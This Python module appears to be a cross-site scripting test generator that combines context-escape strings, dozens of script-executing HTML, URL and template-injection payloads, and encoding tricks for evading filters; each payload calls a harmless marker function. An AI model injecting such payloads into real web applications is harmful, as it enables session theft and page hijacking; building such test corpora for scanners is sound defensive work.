"""Texts that would run as script somewhere: ways out of a context, what runs there, and disguises.

Each calls ``__hit(number)``; a page in which that is called has run what somebody wrote.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from html import escape
from itertools import product
from random import Random
from urllib.parse import quote

__all__ = ["payloads"]

_OUT = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "</option></select>",
    "-->",
    "]]>",
    "*/",
    "`",
    '\\"',
    "\\'",
    "\n",
    "\u2028",
    "\ufeff",
    "x\t",
    "}}",
    "<!--",
    "</noscript>",
    "x' y=\"",
)
_RUNS = (
    "<script>__hit(%d)</script>",
    "<script src=data:,__hit(%d)></script>",
    "<img src=x onerror=__hit(%d)>",
    "<img/src/onerror=__hit(%d)>",
    "<svg onload=__hit(%d)>",
    "<svg><script>__hit(%d)</script></svg>",
    "<svg><animate onbegin=__hit(%d) attributeName=x dur=1s>",
    "<svg><set onend=__hit(%d) dur=.01s />",
    "<math><mtext><script>__hit(%d)</script></mtext></math>",
    "<iframe srcdoc='<script>parent.__hit(%d)</script>'>",
    "<iframe src=javascript:parent.__hit(%d)>",
    "<details open ontoggle=__hit(%d)>x</details>",
    "<input autofocus onfocus=__hit(%d)>",
    "<select autofocus onfocus=__hit(%d)></select>",
    "<video><source onerror=__hit(%d)></video>",
    "<audio src=x onerror=__hit(%d)>",
    "<body onload=__hit(%d)>",
    "<body onpageshow=__hit(%d)>",
    "<marquee onstart=__hit(%d)>x</marquee>",
    "<object data=javascript:__hit(%d)>",
    "<embed src=javascript:__hit(%d)>",
    "<a href=javascript:__hit(%d) id=go>x</a>",
    "<form action=javascript:__hit(%d)><button id=go>x</button></form>",
    "<button formaction=javascript:__hit(%d) form=f>x</button>",
    "<isindex type=image src=1 onerror=__hit(%d)>",
    "<meta http-equiv=refresh content='0;url=javascript:__hit(%d)'>",
    "<base href=javascript:__hit(%d)//>",
    "<link rel=stylesheet href=x onerror=__hit(%d)>",
    "<style onload=__hit(%d)></style>",
    "<div style=animation-name:x onanimationstart=__hit(%d)>",
    "<p onmouseover=__hit(%d) style=position:fixed;inset:0>x",
    "<template><script>__hit(%d)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=__hit(%d)>'>",
    " onfocus=__hit(%d) autofocus x=",
    " style=animation:x onanimationend=__hit(%d) ",
    "javascript:__hit(%d)",
    "data:text/html,<script>opener.__hit(%d)</script>",
    ";__hit(%d);//",
    "';__hit(%d);//",
    '");__hit(%d);//',
    "{{constructor.constructor('__hit(%d)')()}}",
    "${__hit(%d)}",
    "#{__hit(%d)}",
    "<%%=__hit(%d)%%>",
    "{{1337*1337}}%d",
    "{%% print(1337*1337) %%}%d",
    '=HYPERLINK("javascript:__hit(%d)")',
    "@import'javascript:__hit(%d)';",
    "<xss id=x tabindex=1 onactivate=__hit(%d)></xss>",
    "<textarea onfocus=__hit(%d) autofocus>",
    "<title>%d</title>",
)


def _mixed(text: str) -> str:
    mixed = "".join(c.upper() if n % 2 else c for n, c in enumerate(text))
    return re.sub("__hit", "__hit", mixed, flags=re.IGNORECASE)


_DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    escape,
    quote,
    lambda text: quote(quote(text)),
    lambda text: "".join(f"&#{ord(c)};" for c in text[:40]) + text[40:],
    lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\u02c2<").replace("=", "=\u3000"),
    lambda text: text.replace("script", "scr\u200bipt").replace("on", "o\u00adn"),
    lambda text: text.replace(" ", "/").replace("=", " = "),
    lambda text: text.replace("s", "\u017f"),
    lambda text: text.replace("javascript:", "java\tscript\n:"),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: text.replace("<", "<<"),
    lambda text: text.encode("utf-7").decode("ascii", "replace"),
    _mixed,
)


def payloads(count: int) -> list[str]:
    """So many different ones; always the same. The plain ones come first."""
    plain = [(_OUT[0], run, _DISGUISES[0]) for run in _RUNS]
    rest = list(product(_OUT, _RUNS, _DISGUISES))
    Random(2000).shuffle(rest)  # noqa: S311  # the same ones each time
    found: dict[str, None] = {}
    for out, run, disguise in [*plain, *rest]:
        found[out + disguise(run % len(found))] = None
        if len(found) == count:
            break
    return list(found)
